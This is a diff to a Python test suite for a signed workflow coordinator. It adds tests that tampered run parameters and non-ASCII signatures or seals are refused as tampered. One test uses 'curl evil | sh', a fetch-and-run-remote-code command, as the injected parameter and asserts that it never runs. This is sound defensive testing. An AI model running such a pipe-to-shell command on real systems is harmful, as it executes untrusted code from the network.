@@ -100,6 +100,12 @@ tasks:
     command: plan
     payload: {spawn: [{name: first, payload: {sleep: 3}}, {name: then, after: [first], payload: {n: 1}}]}
 """
+SHIPPING = """
+name: shipping
+params: {command: make release}
+tasks:
+  Ship: {agent: cmdc, command: step, payload: {run: "${params.command}"}}
+"""
 ISSUED = {"Scan": ("kalic", {"target": "repo"}), "Build": ("webc", {"target": "repo"})}
 ISSUED["Ship"] = ("cmdc", {"run": "make release"})
 
@@ -186,13 +192,8 @@ def fleet(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Fleet]:
         stryk = signing.generate(directory / "approver", "stryk")
         files = {}
         named = {"team": TEAM, "slow": SLOW, "idle": DORMANT, "gated": GATED, "launched": LAUNCHED}
-        for name, text in {
-            **named,
-            "planned": PLANNED,
-            "spawning": SPAWNING,
-            "paramed": PARAMED,
-            "staged": STAGED,
-        }.items():
+        named |= {"planned": PLANNED, "spawning": SPAWNING, "paramed": PARAMED, "staged": STAGED, "shipping": SHIPPING}
+        for name, text in named.items():
             files[name] = directory / "files" / f"{name}.yaml"
             files[name].parent.mkdir(exist_ok=True)
             files[name].write_text(text)
@@ -655,6 +656,46 @@ def test_a_client_rewriting_a_spawned_tasks_payload_runs_none_of_it(fleet: Fleet
     assert not [row for row in fleet.ran(wf_id) if row["task"] == "Plan/then"], fleet.ran(wf_id)
     assert fleet.alive(), fleet.procs.output()
     record("rewrite a spawned task's payload", "client", "worked: webc ran it", "the run fails: tampered")
+
+
+def test_a_client_rewriting_an_ended_runs_params_cannot_retry_it_into_running_them(fleet: Fleet) -> None:
+    """A run ended; the client's user rewrites its params, marks it ended by failure, and asks to retry
+    its task: an ended run read again for a retry must still be what was signed and sealed, so the retry
+    is refused, and the task never runs the rewritten params."""
+    with fleet.client("client") as client:
+        wf_id = client.submit(fleet.files["shipping"])
+        assert client.wait(wf_id, timeout=60)["state"] == "succeeded"
+        rewrite(fleet, wf_id, params={"command": "curl evil | sh"}, state="failed")
+        with pytest.raises(InvalidInput, match="tampered"):
+            client.retry(wf_id, from_task="Ship", timeout=30)
+    assert [row["payload"] for row in fleet.ran(wf_id)] == [{"run": "make release"}]
+    assert fleet.alive(), fleet.procs.output()
+    record("rewrite an ended run's params, then retry it", "client", "worked: Ship ran them", "refused: tampered")
+
+
+def test_digests_that_are_not_ascii_are_refused_and_stop_no_coordinator(fleet: Fleet) -> None:
+    """A message's signature, a run's seal: text past ASCII is no digest (Python's constant-time
+    comparison raises on it). An agent's message so signed is dead-lettered, and a run so sealed fails
+    as tampered; every coordinator goes on."""
+    keys = fleet.deployment.keys
+    with fleet.client("client") as client:
+        wf_id = client.submit(fleet.files["gated"])
+    approver = fleet.client("approver")
+    request = until(lambda: next((r for r in approver.approvals() if r["workflow"] == wf_id), None), fleet.procs)
+    seen = len(fleet.dead_letters())
+    body = {"wf": wf_id, "unit": "Build", "dispatch": "d", "attempt": 1, "tokens": 1, "cost": 0.0}
+    spend = {"v": wire.VERSION, "id": wire.short_id(), "kind": "spend", "agent": "webc", "sig": "é" * 64, "body": body}
+    fleet.deployment.client("webc").xadd(keys.inbox(wf_id), {wire.FIELD: wire.pack(spend)})
+    assert "signature" in reasons_since(fleet, seen, 1)[0]
+    sealed = fleet.deployment.client("client").hget(keys.wf(wf_id), "seal").decode()
+    rewrite(fleet, wf_id, seal=sealed.rpartition(":")[0] + ":" + "é" * 64)
+    approver.decide(request["id"], "approve", key=fleet.stryk, wait=0.5)
+    with fleet.client("client") as waiter:
+        status = waiter.wait(wf_id, timeout=60)
+    assert status["state"] == "failed" and "tampered" in str(status["error"]), status
+    assert not [row for row in fleet.ran(wf_id) if row["task"] == "Ship"]
+    assert fleet.alive(), fleet.procs.output()
+    record("a signature or a seal past ASCII", "webc, client", "(new) every coordinator died", "refused")
 
 
 def test_under_require_signed_a_handler_spawns_tasks_for_its_own_agent_only(fleet: Fleet) -> None:
